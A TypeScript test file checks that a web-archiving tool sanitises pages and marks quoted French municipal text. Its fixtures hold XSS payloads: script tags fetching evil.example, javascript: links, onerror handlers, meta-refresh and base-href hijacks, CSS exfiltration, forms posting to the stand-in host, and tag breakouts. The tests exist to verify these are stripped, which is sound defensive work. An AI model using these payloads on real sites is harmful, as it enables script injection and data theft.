import { parseDocument } from "htmlparser2";
import { describe, expect, it } from "vitest";
import { markBlocks } from "../../../src/app/stages/report/mark-blocks.js";
import type { Document } from "../../../src/model/document.js";
import { archivedCopy, openTongues, readList } from "../../../src/report/pages/archived-copy.js";
import { read } from "../../extract/read.js";
import { testOptions } from "../../report/report-options.js";

const options = testOptions();
const tongues = openTongues(options);
const sentence = "Le budget de l’exercice 2026 est de 1 200 000 dirhams";

interface Node {
  readonly name?: string;
  readonly data?: string;
  readonly attribs?: Readonly<Record<string, string>>;
  readonly children?: readonly Node[];
}

const nodesOf = (text: string): Node[] => {
  const flat = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(flat)];
  return flat(parseDocument(text) as unknown as Node);
};
const textOf = (node: Node): string => (node.data ?? "") + (node.children ?? []).map(textOf).join("");

/** The copy of a page as readers get it, with one quotation. */
function copyOf(document: Document, quotation: string, changes: { readonly url?: string; readonly title?: string } = {}): string {
  const { marked, ...rest } = markBlocks(document.blocks, [{ id: "q1", text: quotation, locator: "" }]);
  return archivedCopy(options, tongues, {
    title: changes.title ?? document.title,
    url: changes.url ?? document.url,
    fetchedAt: document.fetchedAt,
    sha256: document.sha256,
    page: undefined,
    quotations: [{ id: "q1", text: quotation, marked: marked.has("q1") }],
    content: { kind: "text", ...rest },
  });
}

const harms: Readonly<Record<string, string>> = {
  script: `<script>fetch("https://evil.example/")</script><p>${sentence}</p><p onclick="alert(1)">x</p><a href="javascript:alert(1)">lien</a>`,
  svg: `<svg><script>alert(1)</script><image href="https://evil.example/x.png"/><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg><p>${sentence}</p>`,
  refresh: `<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>${sentence}</p>`,
  base: `<base href="https://evil.example/"><p>${sentence}</p><img src="x.png">`,
  style: `<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style><link rel="stylesheet" href="https://evil.example/y.css"><p style="background:url(https://evil.example/z)">${sentence}</p>`,
  form: `<form action="https://evil.example/"><input name="q"><button formaction="https://evil.example/b">Envoyer</button></form><p>${sentence}</p>`,
  frames: `<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e"><p>${sentence}</p>`,
  breakout: `<p>${sentence} &lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</p><title>&lt;/title&gt;&lt;script&gt;alert(2)&lt;/script&gt;</title>`,
};

const allowed = new Set(
  "!doctype html head meta title link body header div p ul li a bdi main h1 dl dt dd time span q small article h3 details summary mark".split(
    " ",
  ),
);

describe("the copy of an archived page", () => {
  it.each(Object.entries(harms))("takes nothing over that acts, loads or leads away: %s", async (_, html) => {
    const copy = copyOf(await read(`<html><body><main>${html}</main></body></html>`), sentence);
    const nodes = nodesOf(copy);
    expect([...new Set(nodes.flatMap(({ name }) => (name === undefined || allowed.has(name) ? [] : [name])))]).toEqual([]);
    const attributes = nodes.flatMap(({ name, attribs }) => Object.entries(attribs ?? {}).map(([key, value]) => ({ name, key, value })));
    expect(attributes.filter(({ key }) => /^on|^style$|^srcdoc$|^formaction$/.test(key))).toEqual([]);
    expect(attributes.filter(({ key, value }) => /^(href|src)$/.test(key) && /evil|javascript:|data:text/.test(value))).toEqual([]);
    expect(attributes.filter(({ key, value }) => key === "http-equiv" && value === "refresh")).toEqual([]);
    expect(copy.replaceAll("&#39;", "'")).toContain("default-src 'none'; style-src 'self'; font-src 'self'; img-src data:;");
    expect(copy).not.toMatch(/script-src|unsafe/);
    const marks = nodes.filter(({ name }) => name === "mark");
    expect(marks.map(textOf)).toEqual([sentence]);
    expect(marks[0]?.attribs?.id).toBe("q1");
  });

  it("shows an address that may not be followed as text", async () => {
    const document = await read(`<main><p>${sentence}</p></main>`);
    for (const url of ["javascript:alert(1)", "data:text/html,<script>1</script>", 'https://x.example/"><script>1</script>']) {
      const copy = copyOf(document, sentence, { url, title: '"><img src=x onerror=1>' });
      const nodes = nodesOf(copy);
      expect(nodes.filter(({ name }) => name === "script" || name === "img")).toEqual([]);
      expect(nodes.filter(({ attribs }) => /^(javascript|data):/.test(attribs?.href ?? ""))).toEqual([]);
    }
  });

  it("keeps the text of the page, its menus folded away", async () => {
    const html = `<nav><ul><li><a href=/a>Accueil</a></li><li><a href=/b>Le conseil</a></li><li><a href=/c>Contact</a></li></ul></nav><main><h1>Budget</h1><p>${sentence}.</p><ul><li>Recettes</li></ul></main><footer>Tous droits réservés</footer>`;
    const nodes = nodesOf(copyOf(await read(html), sentence));
    const article = nodes.find(({ name }) => name === "article") ?? {};
    expect(textOf(article)).toContain("Recettes");
    expect(textOf(article)).not.toContain("droits");
    expect(textOf(nodes.find(({ name }) => name === "details") ?? {})).toContain("droits");
  });

  it("says of a quotation that is not found that it is not marked, and names it", async () => {
    const copy = copyOf(await read(`<main><p>${sentence}</p></main>`), "Des mots qui ne sont pas là");
    expect(nodesOf(copy).filter(({ name }) => name === "mark")).toEqual([]);
    expect(copy).toContain("non localisé");
    expect(nodesOf(copy).filter(({ attribs }) => attribs?.id === "q1")).toHaveLength(1);
  });

  it("is cut around the mark where the document is very long, and says so", async () => {
    const lines = Array.from({ length: 4_000 }, (_, at) => `<p>Ligne numéro ${at} du registre communal</p>`);
    lines[2_500] = `<p>${sentence}</p>`;
    const copy = copyOf(await read(`<main>${lines.join("")}</main>`), sentence);
    expect(copy).toContain("Ligne numéro 2450 ");
    expect(copy).not.toContain("Ligne numéro 100 ");
    expect(copy).toContain("Document long");
    expect(copy.length).toBeLessThan(60_000);
  });
});

describe("the marks", () => {
  const blocks = ["Autre chose", "Composition du", "conseil communal élu", "Fin"].map((text, at) => ({
    locator: `p${at + 1}`,
    kind: "paragraph" as const,
    text,
    headings: [],
    region: "main" as const,
  }));
  const mark = (text: string, locator: string) =>
    markBlocks(blocks, [{ id: "q1", text, locator }]).blocks.map((block) => block.marks.map(({ from, to }) => block.text.slice(from, to)));

  it("stand on the words of one block, whatever their case and accents", () => {
    expect(mark("CONSEIL COMMUNAL ELU", "")).toEqual([[], [], ["conseil communal élu"], []]);
  });

  it("stand on every block of which the quotation holds the words", () => {
    expect(mark("Composition du conseil communal élu", "p2")).toEqual([[], ["Composition du"], ["conseil communal élu"], []]);
  });

  it("stand on the block that the reading named where the words are others, and nowhere without it", () => {
    expect(mark("tout autre texte", "p4")).toEqual([[], [], [], ["Fin"]]);
    expect(mark("tout autre texte", "p9")).toEqual([[], [], [], []]);
  });
});

describe("the list of read addresses", () => {
  it("holds every address, those that may not be followed as text", () => {
    const addresses = ["https://a.example/x", "javascript:alert(1)"].map((url) => ({
      url,
      fetchedAt: "2026-11-01T00:00:00Z",
      title: "<b>T</b>",
    }));
    const nodes = nodesOf(readList(options, tongues, "Commune", addresses));
    expect(
      nodes
        .filter(({ name }) => name === "ol")
        .flatMap(({ children }) => children ?? [])
        .filter(({ name }) => name === "li"),
    ).toHaveLength(2);
    expect(nodes.flatMap(({ attribs }) => (attribs?.href?.startsWith("https://a") ? [attribs.href] : []))).toEqual(["https://a.example/x"]);
    expect(nodes.filter(({ name }) => name === "b")).toEqual([]);
  });
});
